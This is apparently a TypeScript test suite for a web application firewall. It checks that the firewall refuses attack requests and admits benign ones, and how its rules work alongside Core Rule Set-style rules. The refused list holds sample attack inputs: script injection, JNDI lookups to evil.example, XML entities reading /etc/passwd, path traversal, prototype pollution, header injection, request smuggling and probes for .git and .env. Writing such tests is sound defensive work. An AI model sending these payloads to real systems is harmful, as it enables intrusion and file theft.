import { deepStrictEqual, ok, strictEqual } from "node:assert/strict";
import { describe, test } from "node:test";
import { CLASSES } from "../../src/builtin/classes.ts";
import { builtinRules, withBuiltinRules } from "../../src/builtin/index.ts";
import { DETECTORS } from "../../src/detect/index.ts";
import { type Rule, rule, ruleSet, setVariable } from "../../src/rule/index.ts";
import { judge, openWaf, type Sent } from "./engine.ts";

const waf = openWaf();
const XSS = "<script>go(1)</script>";
const escaped = encodeURIComponent(XSS);
const FORM = "application/x-www-form-urlencoded";
const MULTIPART = "multipart/form-data; boundary=x";
const part = (head: string, content: string): string => `--x\r\nContent-Disposition: form-data; ${head}\r\n\r\n${content}\r\n--x--\r\n`;

const REFUSED: readonly (readonly [what: string, sent: Sent])[] = [
  ["an argument of the query", { target: `/?a=${escaped}` }],
  ["the name of an argument", { target: `/?${escaped}=1` }],
  ["the path", { target: `/shop/${escaped}/list` }],
  ["a cookie", { headers: [["Cookie", `a=b; c=${escaped}`]] }],
  ["the name of a cookie", { headers: [["Cookie", "__proto__[x]=1"]] }],
  ["the User-Agent", { headers: [["X-Agent", XSS]] }],
  ["the Referer", { headers: [["Referer", `https://example.com/?q=${XSS}`]] }],
  ["a header of any name", { headers: [["X-Anything", `\${jndi:ldap://evil.example/a}`]] }],
  ["a header that says how to answer", { headers: [["Accept-Language", `\${jndi:ldap://evil.example/a}`]] }],
  ["script in one that says how to answer", { headers: [["Pragma", XSS]] }],
  ["a field of a form", { type: FORM, body: `a=1&b=${escaped}` }],
  ["the name of a field", { type: FORM, body: `${escaped}=1` }],
  ["a member of JSON", { type: "application/json", body: JSON.stringify({ a: { b: ["x", XSS] } }) }],
  ["the name of a member of JSON", { type: "application/json", body: JSON.stringify({ constructor: { prototype: { x: 1 } } }) }],
  ["a line of NDJSON", { type: "application/x-ndjson", body: `{"a":1}\n${JSON.stringify({ b: XSS })}\n` }],
  ["the text of XML", { type: "application/xml", body: `<a><b>${XSS.replaceAll("<", "&lt;")}</b></a>` }],
  ["an attribute of XML", { type: "text/xml", body: `<a b="${XSS.replaceAll("<", "&lt;")}"/>` }],
  ["a declaration of XML", { type: "application/xml", body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }],
  ["an inclusion of XML", { type: "application/xml", body: '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>' }],
  ["a part of a multipart body", { type: MULTIPART, body: part('name="a"', XSS) }],
  ["the name of a part", { type: MULTIPART, body: part('name="../../etc/passwd"', "x") }],
  ["the name of a file", { type: MULTIPART, body: part('name="a"; filename="../../../x.png"', "x") }],
  ["a file name that servers run", { type: MULTIPART, body: part('name="a"; filename="x.php.png"', "x") }],
  ["a body of an unknown type", { type: "text/plain", body: XSS }],
  ["a body without a type", { body: XSS }],
  ["a GraphQL query over POST", { type: "application/graphql", body: "{ __schema { types { name } } }" }],
  ["a GraphQL query in JSON", { type: "application/json", body: JSON.stringify({ query: "query { __schema { queryType { name } } }" }) }],
  ["a GraphQL query over GET", { target: "/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D" }],
  ["Base64", { target: `/?a=${Buffer.from(XSS).toString("base64url")}` }],
  ["Base64 in the path", { target: `/${Buffer.from(XSS).toString("base64url")}` }],
  ["two layers of percent signs", { target: `/?a=${encodeURIComponent(escaped)}` }],
  ["JSON in JSON", { type: "application/json", body: JSON.stringify({ a: JSON.stringify({ b: JSON.stringify({ c: XSS }) }) }) }],
  ["a line break in the path", { target: "/a%0d%0aSet-Cookie:a=b" }],
  ["a NUL in an argument", { target: "/?file=a.png%00.php" }],
  ["a method for proxies", { method: "TRACE" }],
  ["a header that redirects the request", { headers: [["X-Original-URL", "/admin"]] }],
  ["a second Host", { headers: [["Host", "evil.example"]] }],
  ["a length and a transfer coding", { headers: [["Transfer-Encoding", "chunked"]], type: FORM, body: "a=1" }],
  ["a transfer coding of its own", { headers: [["Transfer-Encoding", "xchunked"]] }],
  ["a scanner by its name", { headers: [["User-Agent", "sqlmap/1.9"]] }],
  ["a probe for the repository", { target: "/.git/config" }],
  ["a probe behind a doubled slash", { target: "//.env" }],
]; // biome-ignore format: one row each

const ALLOWED: readonly (readonly [what: string, sent: Sent])[] = [
  ["a page", { target: "/articles/2026/11/how-to-select-a-union?page=2&sort=asc" }],
  ["a path with the name of a person", { target: "/people/o'brien" }],
  ["a search in Korean", { target: `/search?q=${encodeURIComponent("서울 맛집 & 카페 (강남)")}` }],
  ["a percent sign by itself", { target: "/?discount=100%" }],
  ["a session in a cookie", { headers: [["Cookie", "sid=s%3Aj8jK9_xPq2.Zm9vYmFy; theme=dark; _ga=GA1.1.123.456; t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"]] }],
  ["a bearer", { headers: [["Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N"]] }],
  ["a browser's headers", { headers: [["Accept", "text/html,*/*;q=0.8"], ["Accept-Language", "ko-KR,ko;q=0.9"], ["Sec-CH-UA", '"Chromium";v="140", "Not(A:Brand";v="24"'], ["If-None-Match", 'W/"5e-18c"'], ["Range", "bytes=0-99,200-299"], ["Referer", "https://example.com/search?q=a+b&lang=en"]] }],
  ["a form of prose", { type: FORM, body: `text=${encodeURIComponent("It's 5 o'clock; select a table & drop me a line (or two) -- thanks!")}` }],
  ["JSON with a web address", { type: "application/json", body: JSON.stringify({ url: "https://example.com/a?b=c&d=e#f", email: "a@example.com", tags: ["<3", "a < b"] }) }],
  ["a picture in JSON", { type: "application/json", body: JSON.stringify({ image: `data:image/png;base64,${Buffer.from("\x89PNG\r\n\x1a\n\0\0\0\rIHDR".repeat(20), "latin1").toString("base64")}` }) }],
  ["a signature, a diff and a key in a part", { type: MULTIPART, body: part('name="a"', "Regards\r\n-- \r\nKim\r\n--- a/x.c\r\n+++ b/x.c\r\n-----BEGIN PUBLIC KEY-----") }],
  ["a boundary in quotes", { type: 'multipart/form-data; boundary="x"', body: part('name="a"', "x") }],
  ["a line before the first part", { type: MULTIPART, body: `\r\n${part('name="a"', "x")}` }],
  ["a browser's wishes", { headers: [["Accept", "text/html,application/xhtml+xml,image/avif,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"], ["Accept-Language", "ko-KR,ko;q=0.9,en-US;q=0.8"], ["Accept-Encoding", "gzip, deflate, br, zstd"], ["Cache-Control", "max-age=0"], ["Sec-Fetch-Site", "same-origin"]] }],
  ["an upload", { type: MULTIPART, body: part('name="a"; filename="보고서 (최종).pdf"', "%PDF-1.7") }],
  ["SOAP", { type: "text/xml", body: '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><s:Body><a xsi:type="x">b</a></s:Body></s:Envelope>' }],
  ["a GraphQL query", { type: "application/json", body: JSON.stringify({ query: "query Q($id: ID!) { user(id: $id) { __typename name } }", variables: { id: "1" } }) }],
  ["the place for certificates", { target: "/.well-known/acme-challenge/abc" }],
]; // biome-ignore format: one row each

describe("The firewall's built-in rules at the default paranoia", () => {
  for (const [what, sent] of REFUSED) {
    test(`refuse an attack in ${what}`, () => {
      const { verdict } = judge(waf, sent);
      strictEqual(verdict.act, "refuse", what);
    });
  }
  for (const [what, sent] of ALLOWED) {
    test(`let ${what} through`, () => {
      const { verdict, transaction } = judge(waf, sent);
      deepStrictEqual(
        [verdict.act, transaction.score],
        ["allow", 0],
        JSON.stringify(transaction.matches.filter(({ isQuiet }) => !isQuiet)),
      );
    });
  }

  test("refuse what reaches the score with 403, and a body that nobody can read with 400", () => {
    const status = (sent: Sent): number => {
      const { verdict } = judge(waf, sent);
      return verdict.act === "refuse" ? verdict.status : 0;
    };
    strictEqual(status({ target: `/?a=${escaped}` }), 403);
    strictEqual(status({ type: "application/json", body: '{"a":' }), 400);
    strictEqual(status({ type: MULTIPART, body: "--y\r\n\r\nx" }), 400);
  });

  test("say which rule, where, and what was found", () => {
    const { transaction } = judge(waf, { target: `/?comment=${escaped}` });
    const [match] = transaction.matches.filter(({ isQuiet, tags }) => !isQuiet && tags.includes("attack-xss"));
    strictEqual(match?.variable, "ARGS_GET:comment");
    ok(match.data.includes("script.element"), match.data);
    ok(match.tags.includes("cwe/79") && match.tags.includes("paranoia-level/1"));
  });

  test("take another threshold from a rule that is loaded with them", () => {
    const patient: Rule = rule({ id: 10, phase: 1, actions: [setVariable("tx.builtin_threshold", 11)] });
    const rules = builtinRules();
    const lenient = openWaf(ruleSet([patient, ...rules.items]));
    strictEqual(judge(lenient, { target: `/?a=${escaped}` }).verdict.act, "allow");
    strictEqual(judge(lenient, { target: `/?a=${escaped}&b=${escaped}&c=${escaped}` }).verdict.act, "refuse");
  });

  test("have a class for every detector, and a number of its own for each", () => {
    deepStrictEqual(CLASSES.map(({ detector }) => detector).toSorted(), [...new Set(DETECTORS.map(({ name }) => name))].toSorted());
    strictEqual(new Set(CLASSES.map(({ number }) => number)).size, CLASSES.length);
  });

  test("find more at each level", () => {
    const sizes = ([1, 2, 3, 4] as const).map((paranoia) => builtinRules({ paranoia }).items.length);
    deepStrictEqual(
      sizes,
      sizes.toSorted((one, other) => one - other),
    );
    const weak: Sent = { target: `/?a=${encodeURIComponent("see ../../images")}` };
    strictEqual(judge(waf, weak).verdict.act, "allow");
    strictEqual(judge(openWaf(builtinRules({ paranoia: 2 })), weak).verdict.act, "refuse");
  });
});

describe("The firewall's built-in rules beside the Core Rule Set", () => {
  // Rules in the manner of the Core Rule Set: one on the protocol, one on injection, and the decision.
  const score = (
    name: string,
  ): {
    readonly kind: "setvar";
    readonly collection: string;
    readonly name: string;
    readonly operation: "add";
    readonly value: string;
  } => ({ kind: "setvar", collection: "TX", name, operation: "add", value: "5" });
  const core = ruleSet([
    rule({ id: 901_100, phase: 1, actions: [setVariable("tx.inbound_anomaly_score_threshold", 5), setVariable("tx.score", 0)] }),
    rule({ id: 920_100, phase: 2, targets: ["ARGS"], operator: { name: "contains", argument: "protocol" }, actions: [score("score")] }),
    rule({ id: 942_100, phase: 2, targets: ["ARGS"], operator: { name: "contains", argument: "select" }, actions: [score("score"), score("sql_injection_score")] }),
    rule({ id: 942_200, phase: 2, targets: ["ARGS"], operator: { name: "contains", argument: "union" }, actions: [score("score"), score("sql_injection_score")] }),
    rule({ id: 949_110, phase: 2, targets: ["TX:score"], operator: { name: "ge", argument: "%{tx.inbound_anomaly_score_threshold}" }, disruptive: "deny" }),
  ]); // biome-ignore format: one row each
  const both = openWaf(withBuiltinRules(core));
  const verdictOn = (text: string): string => judge(both, { target: `/?a=${encodeURIComponent(text)}` }).verdict.act;

  test("refuse what they find themselves, before the other set looks", () => strictEqual(verdictOn(XSS), "refuse"));
  test("do not let one rule on injection refuse what no detector confirms", () => strictEqual(verdictOn("please select a seat"), "allow"));
  test("let two of them", () => strictEqual(verdictOn("select a union"), "refuse"));
  test("let one of them where a detector has seen something", () => strictEqual(verdictOn("select ../../images"), "refuse"));
  test("leave rules on the protocol alone", () => strictEqual(verdictOn("protocol"), "refuse"));
  test("leave a rule on the protocol its own weight beside one on injection", () => strictEqual(verdictOn("select a protocol"), "refuse"));
  test("stand before a set that is not the Core Rule Set", () => {
    const other = ruleSet([rule({ id: 5, phase: 1, targets: ["ARGS"], operator: { name: "streq", argument: "no" }, disruptive: "deny" })]);
    const waf = openWaf(withBuiltinRules(other));
    strictEqual(judge(waf, { target: "/?a=no" }).verdict.act, "refuse");
    strictEqual(judge(waf, { target: `/?a=${escaped}` }).verdict.act, "refuse");
  });
});
